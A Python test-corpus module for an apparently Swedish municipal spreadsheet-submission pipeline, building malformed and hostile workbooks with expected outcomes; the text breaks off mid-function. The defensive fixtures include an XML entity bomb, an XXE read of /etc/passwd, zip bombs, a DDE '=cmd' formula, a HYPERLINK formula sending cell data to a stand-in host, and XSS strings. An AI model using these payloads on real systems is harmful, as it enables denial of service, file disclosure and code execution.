"""A named corpus of hostile and careless input: one builder per case, and the expected outcome.

Every builder gets a `Kit` (a fresh inbox, real templates, helpers) and writes one or
more files into the inbox; it returns the name (inside the inbox) of the file whose
outcome the case is about. `CASES` pairs each builder with the state collect must give
that file and the exact set of problem codes it must report. `tests/test_corpus.py`
runs them; `docs/korpus.md` lists them.

Files get an old modification time (so they are not "waiting") unless the builder sets
one itself with `Kit.touch`.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import struct
import subprocess
import tempfile
import time
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath
from typing import Any
from xml.etree import ElementTree

import openpyxl
from openpyxl.workbook.workbook import Workbook

from pipeline import contract as c
from pipeline.plan import Plan
from pipeline.sniff import OLE2_SIGNATURE
from tests.workbooks import GOOD_ACTION as GOOD
from tests.workbooks import fill_workbook

YEAR = 2027
AS_OF = dt.date(2027, 3, 1)
OLD = 1_790_000_000
"""2026-09-21: the default modification time, long before the run."""
MIB = 1024 * 1024

CONCERNS = {"1.3": "Ja"}
SOFFICE = shutil.which("soffice")
"""LibreOffice, which saves the .ods and .xls cases; those cases are skipped without it."""

_NS = {
    "main": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "rel": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "pkg": "http://schemas.openxmlformats.org/package/2006/relationships",
}


# --- the kit -------------------------------------------------------------------------------


@dataclass
class Kit:
    """What a builder works with: the inbox, real templates and the expectations it records.

    Attributes:
        plan: the real plan.
        inbox: the empty inbox to drop files into.
        work: a scratch folder outside the inbox.
        templates: returns the real template for (förvaltning, year), cached by the caller.
        mtimes: modification times the builder chose; every other file gets OLD.
        kept: (column, Excel row) → the value the validated Åtgärder table must hold there.
        in_force: förvaltning → the file name that must be in force after the run.
    """

    plan: Plan
    inbox: Path
    work: Path
    templates: Callable[[str, int], Path]
    mtimes: dict[Path, float] = field(default_factory=dict)
    kept: dict[tuple[str, int], Any] = field(default_factory=dict)
    in_force: dict[str, str] = field(default_factory=dict)

    def template(self, code: str = "SOC", year: int = YEAR) -> Path:
        """Returns the real, empty template of one förvaltning."""
        return self.templates(code, year)

    def filled(
        self,
        name: str,
        actions: Sequence[Mapping[str, Any]] = (GOOD,),
        *,
        code: str = "SOC",
        year: int = YEAR,
        concerns: Mapping[str, str] | None = None,
        edit: Callable[[Workbook], None] | None = None,
        scratch: bool = False,
    ) -> Path:
        """Writes a filled template (inbox, or scratch) and returns it; `edit` changes it as in Excel."""
        target = (self.work if scratch else self.inbox) / name
        fill_workbook(
            self.template(code, year),
            target,
            actions=actions,
            concerns=CONCERNS if concerns is None else concerns,
        )
        if edit is not None:
            wb = openpyxl.load_workbook(target)
            edit(wb)
            wb.save(target)
        return target

    def write(self, name: str, data: bytes | str) -> Path:
        """Writes raw bytes (or UTF-8 text) into the inbox and returns the path."""
        path = self.inbox / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    def repacked(self, name: str, changes: Mapping[str, bytes | None], source: Path | None = None) -> Path:
        """Writes a copy of a valid submission with zip members replaced, added or (None) removed."""
        source = source or self.filled("_källa.xlsx", scratch=True)
        members = {**members_of(source), **changes}
        return write_zip(self.inbox / name, {k: v for k, v in members.items() if v is not None})

    def touch(self, path: Path, mtime: float) -> None:
        """Gives a file this modification time instead of OLD."""
        self.mtimes[path] = mtime


def libreoffice_copy(source: Path, kind: str, folder: Path) -> Path:
    """Returns `source` as LibreOffice saves it as `kind` ("ods", "xls") in `folder`.

    LibreOffice runs headless in a Swedish locale (so an .ods keeps numbers as a Swedish
    user saw them), with a profile of its own per call, so that calls never share a lock.
    The file is saved under the source's name with the new suffix.
    """
    if SOFFICE is None:
        raise RuntimeError("LibreOffice (soffice) is not installed")
    folder.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="lo-profile-") as profile:
        # The Swedish locale is not installed here: a non-ASCII file name would not survive it.
        plain = Path(profile) / f"source{source.suffix}"
        shutil.copyfile(source, plain)
        subprocess.run(
            [
                SOFFICE,
                f"-env:UserInstallation={(Path(profile) / 'profil').as_uri()}",
                "--headless",
                "--convert-to",
                kind,
                "--outdir",
                str(profile),
                str(plain),
            ],
            check=True,
            capture_output=True,
            timeout=180,
            env={**os.environ, "LC_ALL": "sv_SE.UTF-8", "LANG": "sv_SE.UTF-8"},
        )
        return Path(shutil.move(plain.with_suffix(f".{kind}"), folder / f"{source.stem}.{kind}"))


Builder = Callable[[Kit], str]


@dataclass(frozen=True)
class Case:
    """One corpus case: how to build it and what collect must make of it.

    `expected_codes` is the exact set of problem codes check_submission reports (empty for
    files that are never checked: ignored, waiting, duplicate). `department`, when set, is
    the förvaltning the outcome must name.
    """

    name: str
    builder: Builder
    expected_state: str
    expected_codes: frozenset[str] = frozenset()
    slow: bool = False
    department: str | None = None
    libreoffice: bool = False
    """The case is saved by LibreOffice (skipped where it is not installed)."""

    @property
    def about(self) -> str:
        """Returns the builder's one-line description."""
        return (self.builder.__doc__ or "").strip().splitlines()[0]


# --- zip helpers -----------------------------------------------------------------------------


def members_of(path: Path) -> dict[str, bytes]:
    """Returns the members of a zip by name, in order."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_zip(path: Path, members: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """Writes `members` to a new zip at `path` and returns `path`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def write_zeros(archive: zipfile.ZipFile, name: str, size: int) -> None:
    """Streams `size` zero bytes into a new member, a MiB at a time."""
    block = bytes(MIB)
    with archive.open(name, "w", force_zip64=True) as member:
        for _ in range(size // MIB):
            member.write(block)


def patch_sizes(path: Path, name: str, file_size: int) -> None:
    """Rewrites the uncompressed size of one member in both its local and its directory header."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        local = archive.getinfo(name).header_offset
    struct.pack_into("<L", data, local + 22, file_size)
    directory = data.find(b"PK\x01\x02")
    while data[directory + 46 : directory + 46 + len(name)] != name.encode():
        directory = data.find(b"PK\x01\x02", directory + 4)
    struct.pack_into("<L", data, directory + 24, file_size)
    path.write_bytes(bytes(data))


def sheet_part(path: Path, sheet: str) -> str:
    """Returns the zip member holding a sheet, e.g. "xl/worksheets/sheet3.xml"."""
    with zipfile.ZipFile(path) as archive:
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
    targets = {r.get("Id"): r.get("Target", "") for r in rels.iter(f"{{{_NS['pkg']}}}Relationship")}
    for element in workbook.iter(f"{{{_NS['main']}}}sheet"):
        if element.get("name") == sheet:
            target = targets[element.get(f"{{{_NS['rel']}}}id")]
            return target.lstrip("/") if target.startswith("/") else str(PurePosixPath("xl") / target)
    raise KeyError(sheet)


def _with_rows(kit: Kit, name: str, rows: Callable[[], Any], compresslevel: int = 1) -> Path:
    """Writes a valid submission whose Åtgärder sheet gets extra <row> XML (from `rows()`) at its end."""
    source = kit.filled("_källa.xlsx", scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    members = members_of(source)
    head, tail = members[part].split(b"</sheetData>")
    target = kit.inbox / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        for member, data in members.items():
            if member != part:
                archive.writestr(member, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(head)
            for chunk in rows():
                stream.write(chunk)
            stream.write(b"</sheetData>" + tail)
    return target


def _identification_changed(kit: Kit, name: str, key: str, value: str) -> Path:
    """Writes a valid submission whose identification `key` says `value` (property and sheet)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    wb = openpyxl.load_workbook(source)
    sheet = wb[c.SHEET_IDENTIFICATION]
    for row in sheet.iter_rows():
        if row[0].value == key:
            row[1].value = value
    wb.save(source)
    members = members_of(source)
    custom = members["docProps/custom.xml"].decode("utf-8")
    custom = re.sub(
        rf'(name="{key}"[^>]*>\s*<vt:lpwstr>)[^<]*(</vt:lpwstr>)',
        lambda m: m.group(1) + value + m.group(2),
        custom,
    )
    return kit.repacked(name, {"docProps/custom.xml": custom.encode("utf-8")}, source)


def _columns(ws: Any) -> dict[str, int]:
    return {cell.value: cell.column for cell in ws[1] if cell.value}


# --- hostile: the bytes ----------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE sst [\n<!ENTITY a "aaaaaaaaaa">\n'
    + b"".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n'.encode() for i in range(9))
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
)


def entity_bomb_in_shared_strings(kit: Kit) -> str:
    """xl/sharedStrings.xml with a 'billion laughs' entity bomb (DTD with nested entities)."""
    kit.repacked("bomb.xlsx", {"xl/sharedStrings.xml": BILLION_LAUGHS})
    return "bomb.xlsx"


def xxe_in_custom_properties(kit: Kit) -> str:
    """docProps/custom.xml with an external entity that would read /etc/passwd (XXE)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    custom = members_of(source)["docProps/custom.xml"]
    declaration, _, rest = custom.partition(b"?>")
    evil = declaration + b'?>\n<!DOCTYPE Properties [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + rest
    evil = evil.replace(b"<vt:lpwstr>SOC</vt:lpwstr>", b"<vt:lpwstr>&xxe;</vt:lpwstr>")
    kit.repacked("xxe.xlsx", {"docProps/custom.xml": evil}, source)
    return "xxe.xlsx"


def zip_bomb_lying_header(kit: Kit) -> str:
    """A 64 MiB part of zeros whose zip headers claim it unpacks to 1000 bytes."""
    source = kit.filled("_källa.xlsx", scratch=True)
    path = kit.inbox / "ljuger.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members_of(source).items():
            archive.writestr(name, data)
        write_zeros(archive, "xl/worksheets/sheet99.xml", 64 * MIB)
    patch_sizes(path, "xl/worksheets/sheet99.xml", 1000)
    return path.name


def zip_bomb_300_mib(kit: Kit) -> str:
    """A workbook with a 300 MiB part of zeros (packed to about 300 KiB)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    path = kit.inbox / "bomb300.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members_of(source).items():
            archive.writestr(name, data)
        write_zeros(archive, "xl/worksheets/sheet99.xml", 300 * MIB)
    return path.name


def zip_bomb_in_worksheet(kit: Kit) -> str:
    """The Åtgärder sheet replaced by 300 MiB of well-formed XML (empty rows) packed to ~1 MiB."""
    source = kit.filled("_källa.xlsx", scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    path = kit.inbox / "bomb_blad.xlsx"
    block = b"<row/>" * (MIB // 6)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members_of(source).items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(f'<worksheet xmlns="{_NS["main"]}"><sheetData>'.encode())
            for _ in range(300):
                stream.write(block)
            stream.write(b"</sheetData></worksheet>")
    return path.name


def too_many_members(kit: Kit) -> str:
    """A valid workbook padded with 1 200 tiny extra parts."""
    extra: dict[str, bytes | None] = {f"xl/media/image{i}.png": b"x" for i in range(1200)}
    kit.repacked("delar.xlsx", extra)
    return "delar.xlsx"


def not_a_zip(kit: Kit) -> str:
    """Binary garbage with an .xlsx name."""
    kit.write("okänd.xlsx", bytes(range(256)) * 4)
    return "okänd.xlsx"


def zero_bytes(kit: Kit) -> str:
    """An empty file (0 bytes)."""
    kit.write("tom.xlsx", b"")
    return "tom.xlsx"


def truncated(kit: Kit) -> str:
    """The first half of a valid workbook (an interrupted copy, old enough to judge)."""
    data = kit.filled("_källa.xlsx", scratch=True).read_bytes()
    kit.write("halv.xlsx", data[: len(data) // 2])
    return "halv.xlsx"


def corrupt_member(kit: Kit) -> str:
    """A stored (uncompressed) workbook with one flipped byte in xl/workbook.xml: CRC error."""
    source = kit.filled("_källa.xlsx", scratch=True)
    path = write_zip(kit.inbox / "crc.xlsx", members_of(source), zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/workbook.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + 10] ^= 0x01
    path.write_bytes(bytes(data))
    return path.name


def password_protected(kit: Kit) -> str:
    """An encrypted workbook: an OLE2 file with an EncryptionInfo stream."""
    kit.write(
        "skyddad.xlsx", OLE2_SIGNATURE + bytes(512) + "EncryptionInfo".encode("utf-16-le") + bytes(4096)
    )
    return "skyddad.xlsx"


def _saved_by_libreoffice(kit: Kit, name: str, kind: str, source: Path) -> str:
    """Saves `source` with LibreOffice as `kind` into the inbox under `name`; returns `name`."""
    saved = libreoffice_copy(source, kind, kit.work / f"lo-{kind}")
    target = kit.inbox / name
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(saved, target)
    return name


def _percent_target(wb: Workbook) -> None:
    """Målvärde typed as 75 % (a number with a percent format), Utfall as 1 500 (thousands)."""
    ws = wb[c.SHEET_ACTIONS]
    cols = _columns(ws)
    ws.cell(2, cols[c.TARGET]).value = 0.75
    ws.cell(2, cols[c.TARGET]).number_format = "0%"
    ws.cell(2, cols[c.OUTCOME]).value = 1500
    ws.cell(2, cols[c.OUTCOME]).number_format = "#,##0"


def xls_from_template(kit: Kit) -> str:
    """The filled template saved as .xls (Excel 97-2003) by LibreOffice: read and checked like .xlsx."""
    source = kit.filled("_källa.xlsx", edit=_percent_target, scratch=True)
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.START, 2)] = dt.date(2027, 1, 10)
    kit.kept[(c.OUTCOME, 2)] = "1500"  # an .xls's number formats are not read: shown as General
    return _saved_by_libreoffice(kit, "handlingsplan.xls", "xls", source)


def xls_without_identity(kit: Kit) -> str:
    """A workbook of the förvaltning's own making, saved as .xls by LibreOffice."""
    return _saved_by_libreoffice(kit, "egen.xls", "xls", _own_workbook(kit.work / "egen.xlsx"))


def password_protected_xls(kit: Kit) -> str:
    """An .xls with a password to open: a FILEPASS record right after the workbook's BOF."""
    bof = bytes.fromhex("0908100000060500") + bytes(12)
    names = "Workbook".encode("utf-16-le").ljust(512, b"\0")
    stream = (bof + bytes.fromhex("2f00") + bytes(64)).ljust(4096, b"\0")
    kit.write("skyddad.xls", OLE2_SIGNATURE + bytes(504) + names + stream)
    return "skyddad.xls"


def ods_from_template(kit: Kit) -> str:
    """The filled template saved as .ods by LibreOffice (Swedish): numbers kept as shown, "75 %"."""
    source = kit.filled("_källa.xlsx", edit=_percent_target, scratch=True)
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.TARGET, 2)] = "75 %"
    kit.kept[(c.OUTCOME, 2)] = "1 500"
    kit.kept[(c.DONE, 2)] = dt.date(2027, 12, 31)
    return _saved_by_libreoffice(kit, "handlingsplan.ods", "ods", source)


def ods_renamed_to_xlsx(kit: Kit) -> str:
    """A LibreOffice spreadsheet (.ods) of the filled template renamed to .xlsx: the bytes decide."""
    _saved_by_libreoffice(kit, "kalkyl.ods", "ods", kit.filled("_källa.xlsx", scratch=True))
    (kit.inbox / "kalkyl.ods").rename(kit.inbox / "kalkyl.xlsx")
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    return "kalkyl.xlsx"


def ods_without_identity(kit: Kit) -> str:
    """A workbook of the förvaltning's own making, saved as .ods by LibreOffice."""
    return _saved_by_libreoffice(kit, "egen.ods", "ods", _own_workbook(kit.work / "egen.xlsx"))


def csv_renamed(kit: Kit) -> str:
    """A semicolon-separated text file (cp1252) renamed to .xlsx."""
    kit.write("data.xlsx", "Delmål;Åtgärd;Ansvarig\n1.3;Språkcafé;Enhetschef\n".encode("cp1252"))
    return "data.xlsx"


def html_renamed(kit: Kit) -> str:
    """A web page (an 'Excel' HTML export) renamed to .xlsx."""
    kit.write(
        "webb.xlsx", "\ufeff<!DOCTYPE html>\n<html><body><table><tr><td>1.3</td></tr></table></body></html>"
    )
    return "webb.xlsx"


def xlsm_with_macros(kit: Kit) -> str:
    """A macro-enabled workbook (.xlsm with xl/vbaProject.bin)."""
    kit.repacked("makro.xlsm", {"xl/vbaProject.bin": b"\x00" * 64})
    return "makro.xlsm"


def external_links(kit: Kit) -> str:
    """A valid submission that also carries links to other workbooks (xl/externalLinks)."""
    kit.repacked("länkar.xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    return "länkar.xlsx"


def hyperlink_to_local_file(kit: Kit) -> str:
    """A cell with a hyperlink to file:///C:/Windows/System32/cmd.exe; never followed, text kept."""

    def edit(wb: Workbook) -> None:
        cell = wb[c.SHEET_ACTIONS].cell(2, _columns(wb[c.SHEET_ACTIONS])[c.COMMENT])
        cell.value = "Se vår lokala fil"
        cell.hyperlink = "file:///C:/Windows/System32/cmd.exe"

    kit.filled("länk.xlsx", edit=edit)
    kit.kept[(c.COMMENT, 2)] = "Se vår lokala fil"
    return "länk.xlsx"


def million_rows(kit: Kit) -> str:
    """A million filled rows in Åtgärder (written straight into the sheet XML)."""

    def rows() -> Any:
        for start in range(302, 1_000_302, 10_000):
            yield "".join(
                f'<row r="{r}"><c r="C{r}" t="inlineStr"><is><t>Åtgärd {r}</t></is></c></row>'
                for r in range(start, start + 10_000)
            ).encode()

    return _with_rows(kit, "miljon.xlsx", rows).name


def styled_empty_rows_to_100000(kit: Kit) -> str:
    """Formatting (a style, no values) on every row of Åtgärder down to row 100 000."""

    def rows() -> Any:
        for start in range(302, 100_001, 10_000):
            yield "".join(
                f'<row r="{r}" s="1" customFormat="1">' + f'<c r="A{r}" s="1"/><c r="N{r}" s="1"/></row>'
                for r in range(start, min(start + 10_000, 100_001))
            ).encode()

    return _with_rows(kit, "formaterad.xlsx", rows).name


# --- injection: text that looks like code must be kept exactly, never run ----------------------


def _text_case(
    kit: Kit, name: str, texts: Mapping[str, str], xml_texts: Mapping[str, str] | None = None
) -> str:
    """Writes one GOOD action per text, the text in Kommentar (stored as text), and expects it kept."""
    actions = [GOOD for _ in texts]

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        column = _columns(ws)[c.COMMENT]
        for offset, text in enumerate((xml_texts or texts).values()):
            cell = ws.cell(2 + offset, column)
            cell.value = text
            cell.data_type = "s"  # a typed "=1+1" is text, not a formula

    kit.filled(name, actions, edit=edit)
    for offset, text in enumerate(texts.values()):
        kit.kept[(c.COMMENT, 2 + offset)] = text
    return name


def injection_formula_prefixes(kit: Kit) -> str:
    """Text starting with = + - @ (CSV/formula injection), e.g. =HYPERLINK(...), kept as text."""
    return _text_case(
        kit,
        "formel.xlsx",
        {
            "eq": '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka")',
            "cmd": "=cmd|' /C calc'!A0",
            "plus": "+46 70 123 45 67",
            "minus": "-2+3",
            "at": "@SUM(1+1)",
        },
    )


def injection_tab_and_cr(kit: Kit) -> str:
    """Text with a leading tab, an inner tab, a line feed and a carriage return (Excel's _x000D_)."""
    return _text_case(
        kit,
        "styrtecken.xlsx",
        {"tab": "\t=1+1", "inner": "rad ett\trad två", "lf": "rad ett\nrad två", "cr": "rad ett\rrad två"},
        {
            "tab": "\t=1+1",
            "inner": "rad ett\trad två",
            "lf": "rad ett\nrad två",
            "cr": "rad ett_x000D_rad två",
        },
    )


def injection_urls(kit: Kit) -> str:
    """Plain URLs and a javascript: URL in text."""
    return _text_case(
        kit,
        "url.xlsx",
        {
            "http": "https://example.invalid/login?next=//evil",
            "js": "javascript:alert(document.cookie)",
            "file": "file:///etc/passwd",
        },
    )


def injection_script_tag(kit: Kit) -> str:
    """<script> and HTML attributes in text (shown in the HTML feedback: must be escaped)."""
    return _text_case(
        kit,
        "script.xlsx",
        {"script": "<script>alert('x')</script>", "img": '<img src=x onerror="alert(1)">&amp;'},
    )


def injection_markdown(kit: Kit) -> str:
    """Markdown link, image and table pipes in text (the Markdown summary must not break)."""
    return _text_case(
        kit,
        "markdown.xlsx",
        {
            "link": "[klicka här](https://example.invalid)",
            "image": "![](https://example.invalid/pixel.png)",
            "pipes": "| a | b |\n|---|---|",
            "heading": "# Rubrik **fet** `kod`",
        },
    )


# --- careless: what people do to a template ---------------------------------------------------


def renamed_file(kit: Kit) -> str:
    """A valid submission saved under an odd name in a subfolder."""
    kit.filled("SOC/Kopia av handlingsplan (2) SLUTLIG.xlsx")
    return "SOC/Kopia av handlingsplan (2) SLUTLIG.xlsx"


def _rebuild_actions(wb: Workbook, order: Sequence[str | None]) -> None:
    """Rewrites Åtgärder's header and filled rows with the columns in `order` (None: blank column)."""
    ws = wb[c.SHEET_ACTIONS]
    cols = _columns(ws)
    rows = [[ws.cell(r, cols[n]).value if n else None for n in order] for r in range(1, ws.max_row + 1)]
    ws.delete_cols(1, ws.max_column)
    for r, values in enumerate(rows, start=1):
        for col, value in enumerate(values, start=1):
            ws.cell(r, col).value = value


def moved_columns(kit: Kit) -> str:
    """Åtgärder's columns in reverse order."""
    kit.filled("flyttade.xlsx", edit=lambda wb: _rebuild_actions(wb, list(reversed(c.ACTION_COLUMNS))))
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.COST, 2)] = 5000.0
    return "flyttade.xlsx"


def deleted_optional_column(kit: Kit) -> str:
    """The optional column Samverkan deleted."""
    order = [n for n in c.ACTION_COLUMNS if n != c.PARTNERS]
    kit.filled("utan_samverkan.xlsx", edit=lambda wb: _rebuild_actions(wb, order))
    return "utan_samverkan.xlsx"


def deleted_required_column(kit: Kit) -> str:
    """The required column Ansvarig deleted."""
    order = [n for n in c.ACTION_COLUMNS if n != c.OWNER]
    kit.filled("utan_ansvarig.xlsx", edit=lambda wb: _rebuild_actions(wb, order))
    return "utan_ansvarig.xlsx"


def duplicated_column(kit: Kit) -> str:
    """The column Åtgärd twice (a copied column); the first is read."""
    kit.filled("dubbel_kolumn.xlsx", edit=lambda wb: _rebuild_actions(wb, [*c.ACTION_COLUMNS, c.ACTION]))
    return "dubbel_kolumn.xlsx"


def extra_column(kit: Kit) -> str:
    """An extra column "Egen anteckning" after Kommentar."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.cell(1, len(c.ACTION_COLUMNS) + 1).value = "Egen anteckning"
        ws.cell(2, len(c.ACTION_COLUMNS) + 1).value = "bara för oss"

    kit.filled("extra_kolumn.xlsx", edit=edit)
    return "extra_kolumn.xlsx"


def renamed_sheet_atgarder(kit: Kit) -> str:
    """The sheet Åtgärder renamed to "Åtgärder 2027"."""

    def edit(wb: Workbook) -> None:
        wb[c.SHEET_ACTIONS].title = "Åtgärder 2027"

    kit.filled("bytt_blad.xlsx", edit=edit)
    return "bytt_blad.xlsx"


def deleted_sheet_delmal(kit: Kit) -> str:
    """The sheet Delmål deleted."""

    def edit(wb: Workbook) -> None:
        del wb[c.SHEET_GOALS]

    kit.filled("utan_delmal.xlsx", edit=edit)
    return "utan_delmal.xlsx"


def title_row_above_header(kit: Kit) -> str:
    """Two rows inserted above Åtgärder's header (a title and a blank line)."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.insert_rows(1, 2)
        ws["A1"] = "Socialförvaltningens åtgärder 2027"

    kit.filled("rubrik.xlsx", edit=edit)
    kit.kept[(c.ACTION, 4)] = GOOD[c.ACTION]
    return "rubrik.xlsx"


def merged_cells_in_table(kit: Kit) -> str:
    """Ansvarig and Status merged over two actions' rows (the value shows in both)."""
    second = {**GOOD, c.ACTION: "Läxhjälp", c.OWNER: None, c.STATUS: None}

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        cols = _columns(ws)
        for name in (c.OWNER, c.STATUS):
            letter = openpyxl.utils.get_column_letter(cols[name])
            ws.merge_cells(f"{letter}2:{letter}3")

    kit.filled("sammanslagna.xlsx", [GOOD, second], edit=edit)
    kit.kept[(c.OWNER, 3)] = GOOD[c.OWNER]
    kit.kept[(c.STATUS, 3)] = GOOD[c.STATUS]
    return "sammanslagna.xlsx"


def dates_as_iso_text(kit: Kit) -> str:
    """Dates typed as text in ISO form (2027-03-01, with a time of 00:00, with spaces)."""
    texts = ["2027-03-01", "2027-03-01 00:00:00", " 2027-03-01 "]
    kit.filled("iso.xlsx", [{**GOOD, c.START: t} for t in texts])
    for row in range(2, 2 + len(texts)):
        kit.kept[(c.START, row)] = dt.date(2027, 3, 1)
    return "iso.xlsx"


def dates_as_text_other_formats(kit: Kit) -> str:
    """Dates typed as text in ambiguous or spelled-out forms (1/3/2027, 1 mars 2027, 20270301 ...)."""
    texts = ["1/3/2027", "01.03.2027", "1 mars 2027", "20270301", "mars 2027", "2027-02-30"]
    kit.filled("datumtext.xlsx", [{**GOOD, c.START: t} for t in texts])
    return "datumtext.xlsx"


def dates_as_serial_1900(kit: Kit) -> str:
    """Dates as bare serial numbers (46447 = 2027-03-01) in the 1900 date system, no date format."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        cell = ws.cell(2, _columns(ws)[c.START])
        cell.value = 46447
        cell.number_format = "General"

    kit.filled("serie1900.xlsx", edit=edit)
    kit.kept[(c.START, 2)] = dt.date(2027, 3, 1)
    return "serie1900.xlsx"


def dates_as_serial_1904(kit: Kit) -> str:
    """A workbook in the 1904 date system (old Mac Excel): a bare serial 44985 and a real date."""

    def edit(wb: Workbook) -> None:
        wb.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
        ws = wb[c.SHEET_ACTIONS]
        cols = _columns(ws)
        ws.cell(2, cols[c.START]).value = 44985  # 1904-01-01 + 44985 days
        ws.cell(2, cols[c.START]).number_format = "General"
        ws.cell(2, cols[c.DONE]).value = dt.datetime(2027, 12, 31)

    kit.filled("serie1904.xlsx", edit=edit)
    kit.kept[(c.START, 2)] = dt.date(2027, 3, 1)
    kit.kept[(c.DONE, 2)] = dt.date(2027, 12, 31)
    return "serie1904.xlsx"


def costs_with_separators_and_units(kit: Kit) -> str:
    """Costs typed as text with thousands separators and units: "5 000 kr", "12.500:-", "1 000,50 SEK"."""
    costs = {"5 000 kr": 5000.0, "12.500:-": 12500.0, "1 000,50 SEK": 1000.5, "7\u00a0500 kronor": 7500.0}
    kit.filled("kostnad.xlsx", [{**GOOD, c.COST: text} for text in costs])
    for row, value in enumerate(costs.values(), start=2):
        kit.kept[(c.COST, row)] = value
    return "kostnad.xlsx"


def costs_with_words(kit: Kit) -> str:
    """Costs with words or scales: "ca 5000 kr", "5 tkr", "5000-10000"."""
    kit.filled("kostnad_ord.xlsx", [{**GOOD, c.COST: t} for t in ("ca 5000 kr", "5 tkr", "5000-10000")])
    return "kostnad_ord.xlsx"


def hidden_or_filtered_rows(kit: Kit) -> str:
    """A filter on Åtgärder hiding row 3 and a hidden row 4: hidden rows are still read."""
    actions = [GOOD, {**GOOD, c.ACTION: "Dold rad"}, {**GOOD, c.ACTION: "Gömd rad"}]

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.auto_filter.ref = "A1:N4"
        ws.row_dimensions[3].hidden = True
        ws.row_dimensions[4].hidden = True

    kit.filled("filter.xlsx", actions, edit=edit)
    kit.kept[(c.ACTION, 3)] = "Dold rad"
    kit.kept[(c.ACTION, 4)] = "Gömd rad"
    return "filter.xlsx"


def _formula_cost(kit: Kit, name: str, saved: bool) -> str:
    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.cell(2, _columns(ws)[c.COST]).value = "=1000*5"

    source = kit.filled("_formel.xlsx", edit=edit, scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    xml = members_of(source)[part]
    if saved:
        xml, found = re.subn(
            rb"(<c r=\"G2\"[^>]*>)<f>1000\*5</f>(?:<v\s*/>|<v></v>)?", rb"\1<f>1000*5</f><v>5000</v>", xml
        )
        assert found == 1
    kit.repacked(name, {part: xml}, source)
    return name


def formula_with_saved_value(kit: Kit) -> str:
    """Kostnad as a formula =1000*5 with its saved result 5000 (as Excel saves it)."""
    kit.kept[(c.COST, 2)] = 5000.0
    return _formula_cost(kit, "formel_sparad.xlsx", saved=True)


def formula_without_saved_value(kit: Kit) -> str:
    """Kostnad as a formula =1000*5 without a saved result (written by a program, never opened)."""
    return _formula_cost(kit, "formel_osparad.xlsx", saved=False)


def another_departments_template(kit: Kit) -> str:
    """UTB's template dropped under a SOC-looking name: accepted, for UTB."""
    kit.filled("SOC handlingsplan 2027.xlsx", code="UTB")
    return "SOC handlingsplan 2027.xlsx"


def old_template_version(kit: Kit) -> str:
    """A template of layout version 0, which this system cannot read."""
    _identification_changed(kit, "gammal_mall.xlsx", c.ID_TEMPLATE_VERSION, "0")
    return "gammal_mall.xlsx"


def unknown_plan_version(kit: Kit) -> str:
    """A template made from a plan version that was never saved: checked against today's plan."""
    _identification_changed(kit, "gammal_plan.xlsx", c.ID_PLAN_VERSION, "000000000000")
    return "gammal_plan.xlsx"


def last_years_template(kit: Kit) -> str:
    """Last year's template, never handed in before, dropped this year: accepted for its own year."""
    kit.filled("forra_aret.xlsx", year=YEAR - 1)
    return "forra_aret.xlsx"


def _own_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
